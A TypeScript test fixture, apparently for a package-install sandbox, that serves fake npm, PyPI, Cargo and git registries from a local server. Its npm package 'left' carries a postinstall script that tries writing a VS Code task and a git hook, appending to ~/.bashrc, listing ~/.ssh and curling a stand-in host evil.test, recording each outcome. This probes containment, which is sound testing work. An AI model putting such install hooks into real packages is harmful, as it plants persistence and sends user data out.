import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import type { RequestListener } from 'node:http';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { z } from 'zod';
import { publicAddress } from './internet-fixture.ts';

export const git = (cwd: string, ...words: string[]) =>
  execFileSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@b', ...words], { cwd, stdio: 'pipe' });

export const files = (folder: string, texts: Record<string, string>) => {
  for (const [name, text] of Object.entries(texts)) {
    mkdirSync(dirname(join(folder, name)), { recursive: true });
    writeFileSync(join(folder, name), text);
  }
};

/** What the install script of the npm package tries, and says on its standard output. */
const script = `
const { execSync } = require('node:child_process');
const said = (command) => { try { execSync(command, { stdio: 'ignore', shell: '/bin/sh' }); return 'done'; } catch { return 'failed'; } };
require('node:fs').writeFileSync('said', [
  said('mkdir -p ../../.vscode && echo x > ../../.vscode/tasks.json'),
  said('echo x > ../../.git/hooks/pre-commit'),
  said('echo x >> ~/.bashrc'),
  said('ls ~/.ssh'),
  said('curl -sf https://evil.test/?data'),
  said('curl -sf https://registry.npmjs.org/'),
].join(' '));
`;

/** A path, and what is there: its type and its bytes. */
export type Answer = [path: string, content: [type: string, data: string | Buffer]];

/** A module in C that gives the text "built". */
const nativeText = `
#include <node_api.h>
NAPI_MODULE_INIT() {
  napi_value text;
  napi_create_string_utf8(env, "built", NAPI_AUTO_LENGTH, &text);
  return text;
}
`;

/** Registries of npm, pip and Cargo and a repository of git, with one package each. */
const makeSite = (more: readonly Answer[]): RequestListener => {
  const folder = mkdtempSync(join(tmpdir(), 'sites-'));
  files(folder, {
    'package/package.json': JSON.stringify({
      name: 'left',
      version: '1.0.0',
      scripts: { postinstall: 'node script.js' },
    }),
    'package/script.js': script,
    'wheel/demo_pkg/__init__.py': 'word = "demo"\n',
    'wheel/demo_pkg-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: demo-pkg\nVersion: 1.0\n',
    'wheel/demo_pkg-1.0.dist-info/WHEEL':
      'Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
    'wheel/demo_pkg-1.0.dist-info/RECORD': '',
    'repository/file': 'hello',
    'demo-1.0.0/Cargo.toml': '[package]\nname = "demo"\nversion = "1.0.0"\nedition = "2021"\n',
    'demo-1.0.0/src/lib.rs': 'pub fn word() -> &\'static str { "demo" }\n',
    'said/package.json': JSON.stringify({ name: 'said', version: '1.0.0', bin: 'said.js' }),
    // npm builds what has this file.
    'native/binding.gyp': '{ "targets": [{ "target_name": "native", "sources": ["native.c"] }] }',
    'native/package.json': JSON.stringify({ name: 'native', version: '1.0.0', gypfile: true }),
    'native/native.c': nativeText,
    'native/index.js': "module.exports = require('./build/Release/native.node');\n",
    'said/said.js': '#!/usr/bin/env node\nconsole.log("said", ...process.argv.slice(2));\n',
  });
  for (const [name, from] of [
    ['demo.crate', 'demo-1.0.0'],
    ['said.tgz', 'said'],
    ['native.tgz', 'native'],
    ['left.tgz', 'package'],
  ] as const)
    execFileSync('tar', ['-czf', name, from], { cwd: folder });
  execFileSync('python3', ['-m', 'zipfile', '-c', '../demo.whl', 'demo_pkg', 'demo_pkg-1.0.dist-info'], {
    cwd: join(folder, 'wheel'),
  });
  const repository = join(folder, 'repository');
  git(repository, 'init', '-q');
  git(repository, 'add', '.');
  git(repository, 'commit', '-qm', 'first');
  git(repository, 'update-server-info');
  const packument = (name: string, more: object = {}) => {
    const data = readFileSync(join(folder, `${name}.tgz`));
    const integrity = `sha512-${createHash('sha512').update(data).digest('base64')}`;
    const shasum = createHash('sha1').update(data).digest('hex');
    const tarball = `https://registry.npmjs.org/${name}/-/${name}-1.0.0.tgz`;
    const version = { name, version: '1.0.0', dist: { tarball, integrity, shasum }, ...more };
    return JSON.stringify({ name, 'dist-tags': { latest: '1.0.0' }, versions: { '1.0.0': version } });
  };
  const crate = readFileSync(join(folder, 'demo.crate'));
  const cksum = createHash('sha256').update(crate).digest('hex');
  const indexed = { name: 'demo', vers: '1.0.0', deps: [], cksum, features: {}, yanked: false };
  const wheel = '/demo_pkg-1.0-py3-none-any.whl';
  const answers = new Map<string, Answer[1]>([
    ...more,
    ['/left', ['application/json', packument('left', { hasInstallScript: true })]],
    ['/left/-/left-1.0.0.tgz', ['application/octet-stream', readFileSync(join(folder, 'left.tgz'))]],
    ['/native', ['application/json', packument('native', { hasInstallScript: true, gypfile: true })]],
    ['/native/-/native-1.0.0.tgz', ['application/octet-stream', readFileSync(join(folder, 'native.tgz'))]],
    ['/said', ['application/json', packument('said', { bin: { said: 'said.js' } })]],
    ['/said/-/said-1.0.0.tgz', ['application/octet-stream', readFileSync(join(folder, 'said.tgz'))]],
    ['/-/npm/v1/security/advisories/bulk', ['application/json', '{}']],
    ['/config.json', ['application/json', '{"dl":"https://static.crates.io/crates"}']],
    ['/de/mo/demo', ['text/plain', `${JSON.stringify(indexed)}\n`]],
    ['/crates/demo/1.0.0/download', ['application/octet-stream', crate]],
    [
      '/simple/demo-pkg/',
      ['text/html', `<a href="https://files.pythonhosted.org${wheel}">demo_pkg-1.0-py3-none-any.whl</a>`],
    ],
    [wheel, ['application/zip', readFileSync(join(folder, 'demo.whl'))]],
  ]);
  for (const name of execFileSync('find', ['.git', '-type', 'f'], { cwd: repository, encoding: 'utf8' })
    .trim()
    .split('\n'))
    answers.set(`/ada/demo${name.slice(4)}`, [
      'application/octet-stream',
      readFileSync(join(repository, name)),
    ]);
  rmSync(folder, { recursive: true });
  return (request, answer) => {
    const found = answers.get((request.url ?? '').replace(/\?.*/, ''));
    answer.writeHead(found === undefined ? 404 : 200, { 'content-type': found?.[0] ?? 'text/plain' });
    answer.end(found?.[1] ?? 'nothing');
  };
};

/** The pnpm of this machine as its registry has it, with what a project names it by. */
export const packPnpm = () => {
  const program = execFileSync('sh', ['-c', 'command -v pnpm'], { encoding: 'utf8' }).trim();
  const folder = dirname(dirname(realpathSync(program)));
  const { version } = z
    .object({ version: z.string() })
    .parse(JSON.parse(readFileSync(join(folder, 'package.json'), 'utf8')));
  const packed = ['-cz', '--transform', 's,^[.],package,', '-C', folder, '.'];
  const data = execFileSync('tar', packed, { maxBuffer: 64 * 1024 * 1024 });
  return {
    packageManager: `pnpm@${version}+sha512.${createHash('sha512').update(data).digest('hex')}`,
    answer: [`/pnpm/-/pnpm-${version}.tgz`, ['application/octet-stream', data]] satisfies Answer,
  };
};

/** The hosts of these sites, for `sharedNetwork`. */
export const packageSites = (more: readonly Answer[] = []) => ({
  names: Object.fromEntries(
    [
      'registry.npmjs.org',
      'registry.yarnpkg.com',
      'pypi.org',
      'files.pythonhosted.org',
      'github.com',
      'index.crates.io',
      'static.crates.io',
      'proxy.golang.org',
      'rubygems.org',
      'index.rubygems.org',
      'repo.packagist.org',
      'codeload.github.com',
      'repo.maven.apache.org',
      'repo1.maven.org',
    ].map((name) => [name, [publicAddress]]),
  ),
  site: makeSite(more),
});
